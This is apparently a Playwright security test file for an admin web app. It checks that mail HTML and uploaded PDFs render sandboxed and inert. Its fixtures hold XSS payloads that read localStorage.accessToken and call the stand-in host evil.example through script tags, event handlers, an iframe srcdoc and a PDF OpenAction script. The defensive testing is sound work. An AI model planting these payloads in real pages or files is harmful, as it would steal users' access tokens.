import type { Page } from 'playwright/test';
import { expect, test } from './story.ts';
import { openAs, settle } from './watched-page.ts';

const ELSEWHERE = 'https://evil.example/';
/** Leaves a trace if it runs, and requests another origin. */
const ATTACK = `window.top.stolen = 1; window.stolen = localStorage.accessToken; fetch('${ELSEWHERE}')`;
const HTML = `<!doctype html><html><head><style>@import url(${ELSEWHERE}a.css); h1 { background: url(${ELSEWHERE}b.png) }</style>
<meta http-equiv="refresh" content="0; url=${ELSEWHERE}c"></head><body style="margin:40px">
<h1 onclick="${ATTACK}">Hello Asha</h1><script>${ATTACK}</script><img src="${ELSEWHERE}d.png" onerror="${ATTACK}">
<svg onload="${ATTACK}"></svg><iframe srcdoc="<script>${ATTACK}</script>"></iframe>
<form action="${ELSEWHERE}e"><button>Send</button></form><a href="${ELSEWHERE}f" target="_top">Open</a></body></html>`;

/** A PDF page with a script that runs on opening, and an external link. */
function hostilePdf(): Buffer {
  const drawn = 'BT /F1 24 Tf 72 700 Td (Certificate) Tj ET';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${ATTACK.replaceAll(/[()]/g, '\\$&')}) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>
/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${ELSEWHERE}g) >> >>] >>`,
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const start = text.length;
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** Records the requests of the page to other origins; none gets through. */
async function watchRequests(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.context().route(`${ELSEWHERE}**`, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  return asked;
}

async function expectUnharmed(page: Page, asked: string[]): Promise<void> {
  const frame = page.frames().find((one) => one.url().includes('/document-frame'));
  expect(await frame?.evaluate(() => window.origin)).toBe('null');
  expect(await frame?.evaluate(() => 'stolen' in window)).toBe(false);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  expect(asked).toEqual([]);
}

test('an admin reads a mail full of active content, and none of it runs', async ({ browser }) => {
  const { page } = await openAs(browser, 'admin');
  const asked = await watchRequests(page);
  await page.route(/\/api\/admin\/mails\/[0-9a-f-]{36}$/, async (route) => {
    const answer = await route.fetch();
    const { data, ...rest } = await answer.json();
    await route.fulfill({ json: { ...rest, data: { ...data, html: HTML } } });
  });
  await page.goto('/admin/mail');
  await settle(page);
  await page
    .getByRole('button', { name: /^Read: / })
    .first()
    .click();
  await expect(page).toHaveURL(/[?&]mail=/);
  const panel = page.getByRole('dialog');
  const shown = panel.frameLocator('iframe');
  await expect(shown.getByRole('heading', { name: 'Hello Asha' })).toBeVisible();
  await shown.getByRole('heading').click();
  await shown.getByText('Open').click();
  await shown.getByRole('button', { name: 'Send' }).click();
  await expect(shown.getByText('Hello Asha')).toBeVisible();
  await expectUnharmed(page, asked);
  await panel.getByText('As text').click();
  await expect(panel.locator('iframe')).toHaveCount(0);
  await expect(panel.locator('pre')).toContainText('You are on the waitlist');
  await panel.getByRole('button', { name: 'All to this address' }).click();
  await expect(page).toHaveURL(/recipient=/);
  await expect(page.getByText(/^Only mails to /)).toBeVisible();
});

test('a PDF with a script in it, and an HTML page named as a PDF, do nothing in a review', async ({
  browser,
}) => {
  const { page } = await openAs(browser, 'admin');
  const asked = await watchRequests(page);
  let file: { body: Buffer | string; contentType: string } = {
    body: hostilePdf(),
    contentType: 'application/pdf',
  };
  await page.route(/\/api\/files\/[0-9a-f-]{36}$/, (route) => route.fulfill(file));
  await page.goto('/admin/recruiters?status=PENDING');
  await settle(page);
  // Companies of other stories come first, some without documents.
  await page
    .getByRole('button', { name: /^View Details/ })
    .last()
    .click();
  const dialog = page.getByRole('dialog');
  const view = dialog.getByRole('button', { name: /^View .*\.(pdf|jpe?g|png)$/ }).first();
  await view.click();
  const drawn = dialog.frameLocator('iframe').getByRole('img', { name: /, page 1 of 1$/ });
  await expect(drawn).toBeVisible();
  expect(await drawn.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1400);
  await drawn.click();
  await expectUnharmed(page, asked);
  await dialog
    .getByRole('button', { name: /^Hide / })
    .first()
    .click();
  file = { body: HTML, contentType: 'application/pdf' };
  await view.click();
  await expect(dialog.getByText('This file could not be read.')).toBeVisible();
  await expectUnharmed(page, asked);
});

test('an invoice can be read in place', async ({ browser }) => {
  const { page } = await openAs(browser, 'admin');
  await page.goto('/admin/invoices?status=OVERDUE');
  await settle(page);
  await page
    .getByRole('button', { name: /^MDL\// })
    .first()
    .click();
  const panel = page.getByRole('dialog');
  await panel.getByRole('button', { name: /^View MDL\// }).click();
  const drawn = panel.frameLocator('iframe').getByRole('img', { name: /^MDL\/.*, page 1 of 1$/ });
  await expect(drawn).toBeVisible();
});
